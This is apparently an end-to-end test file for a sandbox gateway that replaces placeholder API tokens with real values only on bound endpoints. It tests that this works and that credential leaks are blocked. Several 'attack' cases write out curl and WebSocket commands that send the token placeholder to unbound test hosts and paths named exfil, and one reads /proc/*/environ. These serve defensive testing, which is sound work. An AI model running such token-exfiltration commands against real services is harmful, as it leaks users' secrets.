import { describe, it, expect, beforeAll, afterAll } from 'vitest'
import { mkdirSync, writeFileSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { randomBytes } from 'node:crypto'
import { cli, hostDir, uniqueName, podman, TEST_HOME } from '../helpers/cli.js'
import { hostAddress, writePolicyText, gatewayHosts, gatewayName, expectLogged, deleteSandboxes, sh, logs, python, Upstream } from '../helpers/attack.js'
import { TlsUpstream } from '../helpers/tls-upstream.js'

/**
 * Placeholder credentials (issue 12) end to end: a real sandbox whose agent holds a placeholder for
 * a provider's GITHUB_TOKEN, the real gateway container swapping the real value in on the bound
 * endpoint (`credential_binding`) of an HTTPS upstream on the test address, and refusing it
 * everywhere else. What reached the upstream is read from its own record, never from the sandbox.
 * One placeholder sandbox is shared by every case; the env-mode case makes (and deletes) its own.
 */
const H = hostAddress()
const VALUE = `ghp_${randomBytes(18).toString('hex')}`
const VALUE2 = `ghp_${randomBytes(18).toString('hex')}`
const provider = `ph-${process.pid.toString(36)}`
// An imported OpenShell provider profile and a provider of its type, attached to the same sandbox.
const profileId = `acme-${process.pid.toString(36)}`
const profProvider = `pa-${process.pid.toString(36)}`
const ACME = `acme_${randomBytes(16).toString('hex')}`
let up: TlsUpstream
let plain: Upstream
let name = ''
let envName = ''
let cfg: string
const env = () => ({ XDG_CONFIG_HOME: cfg })
const NAMES = ['bound.cred.test', 'other.cred.test', 'prof.cred.test']
const url = (host: string, path: string) => `https://${host}:${up.port}${path}`
const curl = (args: string) => sh(name, `curl -sS --max-time 10 -w '\\n%{http_code}' ${args}`)
const seenValue = () => up.requests.filter(r => JSON.stringify(r).includes(VALUE))

/**
 * A raw RFC 6455 client run with python3 in the sandbox (no WebSocket library in the image): CONNECT
 * through the sandbox's HTTPS_PROXY, TLS with the system trust store, the upgrade (offering
 * permessage-deflate, which a rewriting gateway must not let through), then ONE text message sent
 * as two masked fragments with a ping between them, `TOKEN` in it replaced by $GITHUB_TOKEN.
 * Prints the upgrade status, then `text <reply>`, `close <code>` or `eof`.
 */
const WS_CLIENT = `
import os, socket, ssl, sys, base64, struct
host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
msg = sys.argv[4].replace('TOKEN', os.environ['GITHUB_TOKEN']) if sys.argv[4] != 'BIG' else 'a' * 300000
p = os.environ.get('https_proxy') or os.environ['HTTPS_PROXY']
ph, pp = p.split('//')[1].rstrip('/').rsplit(':', 1)
s = socket.create_connection((ph, int(pp)), timeout=10)
s.sendall(('CONNECT %s:%d HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (host, port, host, port)).encode())
def head(sock):
    b = b''
    while b'\\r\\n\\r\\n' not in b:
        c = sock.recv(1)
        if not c: break
        b += c
    return b.decode('latin1')
assert ' 200' in head(s).split('\\r\\n')[0]
t = ssl.create_default_context().wrap_socket(s, server_hostname=host)
key = base64.b64encode(os.urandom(16)).decode()
t.sendall(('GET %s HTTP/1.1\\r\\nHost: %s:%d\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: %s\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Extensions: permessage-deflate\\r\\n\\r\\n' % (path, host, port, key)).encode())
print(head(t).split('\\r\\n')[0].split(' ')[1])
def frame(op, data, fin=True):
    m = os.urandom(4)
    n = len(data)
    h = bytes([(0x80 if fin else 0) | op])
    if n < 126: h += bytes([0x80 | n])
    elif n < 65536: h += bytes([0xfe]) + struct.pack('>H', n)
    else: h += bytes([0xff]) + struct.pack('>Q', n)
    return h + m + bytes(b ^ m[i % 4] for i, b in enumerate(data))
data = msg.encode()
half = len(data) // 2
t.sendall(frame(1, data[:half], False) + frame(9, b'hi') + frame(0, data[half:]))
def recvn(n):
    b = b''
    while len(b) < n:
        c = t.recv(n - len(b))
        if not c: raise EOFError
        b += c
    return b
try:
    while True:
        b0, b1 = recvn(2)
        n = b1 & 0x7f
        if n == 126: n = struct.unpack('>H', recvn(2))[0]
        elif n == 127: n = struct.unpack('>Q', recvn(8))[0]
        payload = recvn(n)
        op = b0 & 0x0f
        if op == 1:
            print('text', payload.decode())
            break
        if op == 8:
            print('close', struct.unpack('>H', payload[:2])[0])
            break
except (EOFError, ConnectionResetError):
    print('eof')
`
const ws = (host: string, path: string, message: string) => python(name, WS_CLIENT, [host, String(up.port), path, message])

beforeAll(async () => {
  const dir = hostDir('credph')
  up = await TlsUpstream.start({ dir, caName: 'credentials e2e upstream CA' })
  plain = await Upstream.start()
  cfg = join(dir, 'cfg')
  mkdirSync(join(cfg, 'podshell'), { recursive: true })
  writeFileSync(join(cfg, 'podshell', 'config.yaml'), `tls:\n  extra_ca_files:\n    - ${up.caFile}\n`)
  const p = await cli(['provider', 'create', '--name', provider, '--type', 'generic', '--credential', 'GITHUB_TOKEN'], { env: { GITHUB_TOKEN: VALUE } })
  expect(p.code, p.stderr).toBe(0)
  const profileFile = join(dir, 'acme.yaml')
  writeFileSync(profileFile, `id: ${profileId}
display_name: Acme
category: other
credentials:
  - name: api_key
    env_vars: [ACME_TOKEN]
    required: true
    auth_style: header
    header_name: x-acme-key
endpoints:
  - host: prof.cred.test
    port: ${up.port}
    path: /prof/**
    protocol: rest
`)
  const imp = await cli(['provider', 'profile', 'import', '-f', profileFile])
  expect(imp.code, imp.stderr).toBe(0)
  expect(imp.stdout).toContain(`ACME_TOKEN → prof.cred.test:${up.port}/prof/**`)
  expect(imp.stdout).toMatch(/Imported 1 provider profile\.\n$/)
  const pp = await cli(['provider', 'create', '--name', profProvider, '--type', profileId, '--from-existing'], { env: { ACME_TOKEN: ACME } })
  expect(pp.code, pp.stderr).toBe(0)
  const ip = `[${H}/32]`
  const policy = writePolicyText(`version: 1
network_policies:
  api:
    name: api
    endpoints:
      - { host: bound.cred.test, port: ${up.port}, protocol: rest, access: full, path: "/api/**", credential_binding: { provider: ${provider} }, allowed_ips: ${ip} }
      - { host: bound.cred.test, port: ${up.port}, protocol: rest, access: full, path: "/body/**", credential_binding: { provider: ${provider} }, request_body_credential_rewrite: true, allowed_ips: ${ip} }
      - { host: bound.cred.test, port: ${up.port}, protocol: rest, access: full, path: "/ws/**", credential_binding: { provider: ${provider} }, websocket_credential_rewrite: true, allowed_ips: ${ip} }
      - { host: bound.cred.test, port: ${up.port}, protocol: rest, access: full, allowed_ips: ${ip} }
      - { host: other.cred.test, port: ${up.port}, protocol: rest, access: full, path: "/wsx/**", websocket_credential_rewrite: true, allowed_ips: ${ip} }
      - { host: other.cred.test, port: ${up.port}, protocol: rest, access: full, allowed_ips: ${ip} }
      - { host: prof.cred.test, port: ${up.port}, protocol: rest, access: full, allowed_ips: ${ip} }
      - { host: ${H}, port: ${plain.port} }
`)
  name = uniqueName('credph')
  const r = await cli(['sandbox', 'create', '--name', name, '--provider', provider, '--provider', profProvider, '--policy', policy, '--detach'], { env: env() })
  expect(r.code, r.stderr).toBe(0)
  expect(r.stderr).not.toMatch(/credential-mode env/)
  await gatewayHosts(NAMES.map(n => [H, n] as [string, string]))
})

afterAll(async () => {
  await deleteSandboxes([name, envName].filter(Boolean))
  // One at a time: a test deletes `provider` already, and a missing name fails the whole command.
  for (const p of [provider, profProvider]) await cli(['provider', 'delete', '--force', p])
  await cli(['provider', 'profile', 'delete', profileId])
  await Promise.all([up?.close(), plain?.close()])
})

describe('placeholder credentials (issue 12)', () => {
  it('the agent holds a same-shaped placeholder: a ghp_-checking client accepts it, the value is not it', async () => {
    const r = await sh(name, 'case "$GITHUB_TOKEN" in ghp_*) echo "shape-ok ${#GITHUB_TOKEN}";; *) echo "bad-shape";; esac; printf %s "$GITHUB_TOKEN"')
    expect(r.code, r.stderr).toBe(0)
    const [check, placeholder] = r.stdout.split('\n')
    expect(check).toBe(`shape-ok ${VALUE.length}`)
    expect(placeholder).toMatch(/^ghp_[A-Za-z0-9]+$/)
    expect(placeholder).toHaveLength(VALUE.length)
    expect(placeholder).not.toBe(VALUE)
  })

  it('bound endpoint: Bearer, custom header, path segment and query value reach the upstream as the real value', async () => {
    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" -H "X-Api-Token: $GITHUB_TOKEN" "${url('bound.cred.test', '/api/p/')}$GITHUB_TOKEN?tok=$GITHUB_TOKEN&x=1"`)
    expect(r.code, r.stderr).toBe(0)
    expect(r.stdout).toBe('upstream-ok\n200')
    const got = up.requests.find(q => q.url.startsWith('/api/p/'))!
    expect(got.url).toBe(`/api/p/${VALUE}?tok=${VALUE}&x=1`)
    const h = got.rawHeaders
    expect(h[h.findIndex(x => x.toLowerCase() === 'authorization') + 1]).toBe(`Bearer ${VALUE}`)
    expect(h[h.findIndex(x => x.toLowerCase() === 'x-api-token') + 1]).toBe(VALUE)
    const line = await expectLogged(name, /ALLOWED GET/, /\/api\/p\/ghp_/)
    expect(line).not.toContain(VALUE)
  })

  it('bound endpoint: Basic auth is decoded, substituted and re-encoded', async () => {
    const r = await curl(`-u "x-access-token:$GITHUB_TOKEN" ${url('bound.cred.test', '/api/basic')}`)
    expect(r.stdout).toBe('upstream-ok\n200')
    const got = up.requests.find(q => q.url === '/api/basic')!
    const auth = got.rawHeaders[got.rawHeaders.findIndex(x => x.toLowerCase() === 'authorization') + 1]!
    expect(Buffer.from(auth.replace(/^Basic /, ''), 'base64').toString()).toBe(`x-access-token:${VALUE}`)
  })

  it('attack #1: placeholder to an allowed but unbound host → 403 credential_endpoint_mismatch, nothing forwarded, logged', async () => {
    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" ${url('other.cred.test', '/exfil-1')}`)
    const [body, status] = r.stdout.split('\n')
    expect(status).toBe('403')
    expect(JSON.parse(body!)).toEqual({ error: 'credential_endpoint_mismatch', message: 'Credential is not authorized for this request endpoint' })
    expect(up.seen('/exfil-1')).toBe(0)
    await expectLogged(name, /DENIED/, /other\.cred\.test/, /credential_endpoint_mismatch/)
  })

  it("attack #2: placeholder in a query to the bound host's unbound path → 403, nothing forwarded, logged", async () => {
    const r = await curl(`"${url('bound.cred.test', '/exfil-2')}?t=$GITHUB_TOKEN"`)
    expect(r.stdout.split('\n')[1]).toBe('403')
    expect(up.seen('/exfil-2')).toBe(0)
    await expectLogged(name, /DENIED/, /\/exfil-2/, /credential_endpoint_mismatch.*in query/)
  })

  it('attack #3: placeholder in a request body without opt-in → forwarded inert (the placeholder, never the value), logged', async () => {
    const r = await curl(`-X POST --data "token=$GITHUB_TOKEN" ${url('bound.cred.test', '/api/exfil-3')}`)
    expect(r.stdout).toBe('upstream-ok\n200')
    const got = up.requests.find(q => q.url === '/api/exfil-3')!
    expect(got.body).toMatch(/^token=ghp_[A-Za-z0-9]+$/)
    expect(got.body).not.toContain(VALUE)
    await expectLogged(name, /HTTP:POST/, /\/api\/exfil-3/)
  })

  it('opt-in endpoint (request_body_credential_rewrite): the body is substituted; over 256 KiB it is refused (413), not forwarded', async () => {
    const r = await curl(`-X POST --data "token=$GITHUB_TOKEN" ${url('bound.cred.test', '/body/ok')}`)
    expect(r.stdout).toBe('upstream-ok\n200')
    expect(up.requests.find(q => q.url === '/body/ok')!.body).toBe(`token=${VALUE}`)
    const big = await sh(name, `head -c 300000 /dev/zero | tr '\\0' a > /tmp/big && curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $GITHUB_TOKEN" --data-binary @/tmp/big ${url('bound.cred.test', '/body/big')}`)
    expect(big.stdout).toBe('413')
    expect(up.seen('/body/big')).toBe(0)
    await expectLogged(name, /DENIED/, /\/body\/big/)
  })

  it('attack #4: placeholder over plain HTTP → inert (the upstream sees the placeholder), logged', async () => {
    const r = await sh(name, `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GITHUB_TOKEN" http://${H}:${plain.port}/exfil-4`)
    expect(r.stdout).toBe('200')
    const got = plain.requests.find(q => q.url === '/exfil-4')!
    expect(String(got.headers.authorization)).toMatch(/^Bearer ghp_[A-Za-z0-9]+$/)
    expect(String(got.headers.authorization)).not.toContain(VALUE)
    await expectLogged(name, /\/exfil-4/)
  })

  it('attack #5: placeholder on a WebSocket upgrade to an unbound host → 403 credential_endpoint_mismatch, nothing forwarded, logged', async () => {
    const r = await sh(name, `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' -H "Authorization: Bearer $GITHUB_TOKEN" ${url('other.cred.test', '/ws-exfil-5')}`)
    expect(r.stdout).toBe('403')
    expect(up.seen('/ws-exfil-5')).toBe(0)
    await expectLogged(name, /DENIED/, /\/ws-exfil-5/, /credential_endpoint_mismatch/)
  })

  it('websocket_credential_rewrite: a fragmented text message (ping between fragments) reaches the upstream with the value, no extension negotiated, logged', async () => {
    const r = await ws('bound.cred.test', '/ws/a', 'auth TOKEN end')
    expect(r.code, r.stderr).toBe(0)
    expect(r.stdout).toBe(`101\ntext ok ${'auth  end'.length + VALUE.length}\n`)
    expect(up.wsMessages.filter(m => m.url === '/ws/a').map(m => m.text)).toEqual([`auth ${VALUE} end`])
    const h = up.requests.find(q => q.url === '/ws/a')!.rawHeaders.map(x => x.toLowerCase())
    expect(h).not.toContain('sec-websocket-extensions')
    const line = await expectLogged(name, /\/ws\/a/, /websocket text message: credential substituted/)
    expect(line).not.toContain(VALUE)
  })

  it('without websocket_credential_rewrite: frames are relayed unparsed, the placeholder reaches the upstream inert (never the value)', async () => {
    const r = await ws('bound.cred.test', '/api/ws-plain', 'auth TOKEN end')
    expect(r.stdout).toMatch(/^101\ntext ok \d+\n$/)
    const [m] = up.wsMessages.filter(x => x.url === '/api/ws-plain')
    expect(m!.text).toMatch(/^auth ghp_[A-Za-z0-9]+ end$/)
    expect(m!.text).not.toContain(VALUE)
  })

  it('attack #6: placeholder in a websocket text message to an opted-in but unbound endpoint → close 1008, message not forwarded, logged', async () => {
    const r = await ws('other.cred.test', '/wsx/exfil-6', 'steal TOKEN')
    expect(r.stdout).toBe('101\nclose 1008\n')
    expect(up.wsMessages.filter(m => m.url === '/wsx/exfil-6')).toEqual([])
    expect(up.wsCloses.filter(c => c.url === '/wsx/exfil-6').map(c => c.code)).toEqual([1008])
    await expectLogged(name, /DENIED/, /\/wsx\/exfil-6/, /credential_endpoint_mismatch.*websocket/)
  })

  it('websocket_credential_rewrite: a text message over 256 KiB → close 1009, not forwarded, logged', async () => {
    const r = await ws('bound.cred.test', '/ws/big', 'BIG')
    expect(r.stdout).toBe('101\nclose 1009\n')
    expect(up.wsMessages.filter(m => m.url === '/ws/big')).toEqual([])
    await expectLogged(name, /DENIED/, /\/ws\/big/, /websocket close 1009/)
  })

  it('imported profile: its credential is substituted on the profile endpoint only (host, port and path); elsewhere 403, logged', async () => {
    const r = await curl(`-H "X-Acme-Key: $ACME_TOKEN" ${url('prof.cred.test', '/prof/a')}`)
    expect(r.stdout).toBe('upstream-ok\n200')
    const got = up.requests.find(q => q.url === '/prof/a')!
    expect(got.rawHeaders[got.rawHeaders.findIndex(x => x.toLowerCase() === 'x-acme-key') + 1]).toBe(ACME)
    for (const [host, path] of [
      ['prof.cred.test', '/elsewhere-7'],
      ['bound.cred.test', '/api/acme-7'],
    ] as const) {
      const d = await curl(`-H "X-Acme-Key: $ACME_TOKEN" ${url(host, path)}`)
      expect(d.stdout.split('\n')[1]).toBe('403')
      expect(up.seen(path)).toBe(0)
      await expectLogged(name, /DENIED/, new RegExp(path.replace(/\//g, '\\/')), /credential_endpoint_mismatch/)
    }
  })

  it('profiles CLI: list-profiles shows built-in and imported, export round-trips, a malicious profile is refused with diagnostics and not stored', async () => {
    const list = await cli(['provider', 'list-profiles'])
    expect(list.stdout).toMatch(/^Available Provider Profiles:/)
    // OpenShell's layout: per category `  <CATEGORY>`, `    ID  SCOPE  SOURCE  NAME  ENDPOINTS`, the count of endpoints
    expect(list.stdout).toMatch(/\n {2}SOURCE CONTROL\n {4}ID +SCOPE +SOURCE +NAME +ENDPOINTS\n(?: {4}.*\n)* {4}github {2,}builtin +GitHub +3\n/)
    expect(list.stdout).toMatch(new RegExp(`\\n {2}OTHER\\n {4}ID +SCOPE +SOURCE +NAME +ENDPOINTS\\n(?: {4}.*\\n)* {4}${profileId} +workspace +user +Acme +1\\n`))
    const lj = JSON.parse((await cli(['provider', 'list-profiles', '-o', 'json'])).stdout)
    expect(lj.find((p: { id: string }) => p.id === profileId)).toMatchObject({ category: 'other', endpoints: [{ host: 'prof.cred.test', port: up.port, path: '/prof/**' }] })
    const pj = JSON.parse((await cli(['provider', 'get', profProvider, '-o', 'json'])).stdout)
    expect(pj.credential_bindings).toEqual([expect.objectContaining({ variable: 'ACME_TOKEN', mode: 'placeholder', binding: expect.objectContaining({ profile_endpoints: [`prof.cred.test:${up.port}/prof/**`] }) })])
    const exp = await cli(['provider', 'profile', 'export', 'github', '-o', 'json'])
    expect(JSON.parse(exp.stdout)).toMatchObject({ id: 'github', credentials: [{ env_vars: ['GITHUB_TOKEN', 'GH_TOKEN'] }] })
    const evil = join(hostDir('credprof'), 'evil.yaml')
    writeFileSync(evil, `id: github\ncredentials: [{name: t, env_vars: [GITHUB_TOKEN]}]\nendpoints: [{host: "*.test", port: 443}]\n`)
    const lint = await cli(['provider', 'profile', 'lint', '-f', evil])
    expect(lint.code).not.toBe(0)
    expect(lint.stderr).toMatch(/^Provider profile diagnostics:$/m)
    expect(lint.stderr).toMatch(/^ {2}error .*evil\.yaml profile=github field=id github is a built-in provider profile/m)
    expect(lint.stderr).toMatch(/^ {2}error .*evil\.yaml profile=github field=endpoints\.0\.host .*too broad/m)
    const imp = await cli(['provider', 'profile', 'import', '-f', evil])
    expect(imp.code).not.toBe(0)
    expect(imp.stderr).toMatch(/provider profile import failed/)
    expect((await cli(['provider', 'profile', 'export', 'github'])).stdout).toContain('api.github.com')
    expect((await cli(['provider', 'profile', 'export', 'github'])).stdout).not.toContain('*.test')
  })

  it('leak check: the real value is in no podshell file, no podman inspect, no /proc/*/environ of the sandbox, no log', async () => {
    const hits: string[] = []
    const walk = (d: string) => {
      let entries
      try {
        entries = readdirSync(d, { withFileTypes: true })
      } catch {
        return
      }
      for (const e of entries) {
        const p = join(d, e.name)
        if (e.isDirectory()) walk(p)
        else if (e.isFile()) {
          try {
            const b = readFileSync(p)
            if (b.includes(VALUE) || b.includes(ACME)) hits.push(p)
          } catch {
            // unreadable (not ours): skipped
          }
        }
      }
    }
    walk(TEST_HOME)
    expect(hits).toEqual([])
    const inspect = await podman(['inspect', `podshell.${name}.agent`])
    expect(inspect.code).toBe(0)
    expect(inspect.stdout).not.toContain(VALUE)
    const environ = await sh(name, "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null; echo END")
    expect(environ.stdout).toContain('GITHUB_TOKEN=ghp_')
    expect(environ.stdout).not.toContain(VALUE)
    expect(await logs(name)).not.toContain(VALUE)
    const gw = await podman(['logs', await gatewayName()])
    expect(gw.stdout + gw.stderr).not.toContain(VALUE)
    const json = await cli(['sandbox', 'get', name, '-o', 'json'])
    expect(json.stdout).not.toContain(VALUE)
    const pj = await cli(['provider', 'get', provider, '-o', 'json'])
    expect(pj.stdout).not.toContain(VALUE)
    // the value reached the upstream only on bound endpoints
    expect(seenValue().every(q => q.url.startsWith('/api/') || q.url.startsWith('/body/'))).toBe(true)
    expect(up.wsMessages.filter(m => m.text.includes(VALUE)).every(m => m.url.startsWith('/ws/'))).toBe(true)
  })

  it('--credential-mode env: the real value as an env var, with a one-line warning naming it', async () => {
    envName = uniqueName('credenv')
    const r = await cli(['sandbox', 'create', '--name', envName, '--provider', provider, '--credential-mode', 'env', '--detach'], { env: env() })
    expect(r.code, r.stderr).toBe(0)
    expect(r.stderr).toMatch(/^warning: --credential-mode env: the agent gets the real values of GITHUB_TOKEN as environment variables$/m)
    const v = await cli(['sandbox', 'exec', '-n', envName, '--', 'sh', '-c', 'printf %s "$GITHUB_TOKEN"'])
    expect(v.stdout).toBe(VALUE)
  })

  it('gateway restart: placeholders fail closed (403 credential_unavailable) until the next podshell command restores the values from the Podman secrets', async () => {
    expect((await podman(['restart', '-t', '0', await gatewayName()])).code).toBe(0)
    await gatewayHosts(NAMES.map(n => [H, n] as [string, string]))
    // Straight into the agent container (no podshell command, so nothing restores the values yet).
    const direct = `curl -sS --max-time 5 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GITHUB_TOKEN" ${url('bound.cred.test', '/api/after-restart')}`
    let status = ''
    for (let i = 0; i < 40 && status !== '403'; i++) {
      status = (await podman(['exec', `podshell.${name}.agent`, 'sh', '-c', direct])).stdout.trim()
      if (status !== '403') await new Promise(r => setTimeout(r, 250))
    }
    expect(status).toBe('403')
    expect(up.seen('/api/after-restart')).toBe(0)
    await expectLogged(name, /DENIED/, /\/api\/after-restart/, /credential_unavailable/)
    // `sandbox exec` ensures the gateway: it reads the values back and substitution works again.
    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" ${url('bound.cred.test', '/api/restored')}`)
    expect(r.stdout).toBe('upstream-ok\n200')
    const got = up.requests.find(q => q.url === '/api/restored')!
    expect(got.rawHeaders[got.rawHeaders.findIndex(x => x.toLowerCase() === 'authorization') + 1]).toBe(`Bearer ${VALUE}`)
  })

  it('provider update while the sandbox runs → its placeholder resolves to the new value at once (no restart)', async () => {
    const u = await cli(['provider', 'update', provider, '--credential', 'GITHUB_TOKEN'], { env: { GITHUB_TOKEN: VALUE2 } })
    expect(u.code, u.stderr).toBe(0)
    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" ${url('bound.cred.test', '/api/rotated')}`)
    expect(r.stdout).toBe('upstream-ok\n200')
    const got = up.requests.find(q => q.url === '/api/rotated')!
    expect(got.rawHeaders[got.rawHeaders.findIndex(x => x.toLowerCase() === 'authorization') + 1]).toBe(`Bearer ${VALUE2}`)
    const w = await ws('bound.cred.test', '/ws/rotated', 'TOKEN')
    expect(w.stdout).toBe(`101\ntext ok ${VALUE2.length}\n`)
    expect(up.wsMessages.find(m => m.url === '/ws/rotated')!.text).toBe(VALUE2)
  })

  it('provider deleted while the sandbox runs → its placeholder stops resolving (403), nothing forwarded, logged', async () => {
    const d = await cli(['provider', 'delete', '--force', provider])
    expect(d.code, d.stderr).toBe(0)
    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" ${url('bound.cred.test', '/api/after-delete')}`)
    const [body, status] = r.stdout.split('\n')
    expect(status).toBe('403')
    expect(JSON.parse(body!).error).toBe('credential_unavailable')
    expect(up.seen('/api/after-delete')).toBe(0)
    await expectLogged(name, /DENIED/, /credential_unavailable/)
  })
})
